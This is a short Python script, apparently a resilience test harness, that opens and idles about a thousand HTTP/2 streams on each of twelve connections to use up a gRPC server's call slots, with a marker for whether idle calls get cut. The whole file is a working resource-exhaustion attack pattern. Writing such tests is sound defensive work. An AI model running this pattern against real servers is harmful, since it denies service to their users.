#!/usr/bin/python3
"""Streams opened and left: as many as each connection may have, on many connections, without a message on any. They take the
places of calls, not bytes."""
from attacker import Peer, headers, main

MARK = ("grpc.calls_idle_cut",)
ENDED = False


def attack(run):
    peers = [Peer(run) for _ in range(12)]
    for peer in peers:
        for begin in range(1, 2001, 200):
            peer.send(b"".join(headers(s) for s in range(begin, begin + 200, 2)), 100)
    while run.going():
        for peer in peers:
            peer.wait(0.02)
    for peer in peers:
        peer.close()


if __name__ == "__main__":
    main(attack)
